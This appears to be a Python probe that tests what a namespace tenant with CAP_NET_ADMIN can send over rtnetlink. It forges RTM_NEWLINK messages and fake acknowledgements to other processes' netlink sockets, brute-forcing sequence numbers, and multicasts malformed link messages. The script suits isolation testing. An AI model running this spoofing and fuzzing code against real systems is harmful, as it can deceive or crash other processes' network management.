"""What a tenant can send who has CAP_NET_ADMIN in their own namespace. Prints a line for each thing sent: ok or an errno."""
import errno, os, socket, struct, sys

NETLINK_ROUTE, RTM_NEWLINK, RTMGRP_LINK = 0, 16, 1


def attribute(number, value):
    return struct.pack("HH", 4 + len(value), number) + value + b"\0" * (-len(value) % 4)


def new_link(sequence, port, name=b"forged\0", index=4242):
    content = struct.pack("BBHiII", 0, 0, 1, index, 0x1003, 0xFFFFFFFF) + attribute(3, name)
    return struct.pack("IHHII", 16 + len(content), RTM_NEWLINK, 0, sequence, port) + content


def acknowledgement(sequence, port):
    return struct.pack("IHHIIiIHHII", 36, 2, 0, sequence, port, 0, 16, 0, 0, sequence, port)


def ports():
    """Of all sockets of rtnetlink in this namespace, but for the kernel's own."""
    with open("/proc/thread-self/net/netlink") as table:
        rows = [line.split() for line in table][1:]
    return [int(row[2]) for row in rows if row[1] == "0" and row[2] != "0"]


def send(sender, datagram, address):
    try:
        sender.sendto(datagram, address)
        print("ok", flush=True)
    except OSError as error:
        print(errno.errorcode[error.errno], flush=True)


sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_ROUTE)
sender.bind((0, 0))
own = sender.getsockname()[0]
if sys.argv[1] == "answers":
    for port in ports():
        if port == own:
            continue
        for sequence in range(1, 100):
            send(sender, new_link(sequence, port) + acknowledgement(sequence, port), (port, 0))
elif sys.argv[1] == "events":
    send(sender, new_link(0, 0), (0, RTMGRP_LINK))
    send(sender, b"\x05\0\0\0", (0, RTMGRP_LINK))
    send(sender, struct.pack("IHHII", 9999, RTM_NEWLINK, 0, 0, 0) + b"\xff" * 64, (0, RTMGRP_LINK))
    send(sender, new_link(0, 0, name=b"\xff" * 400), (0, RTMGRP_LINK))
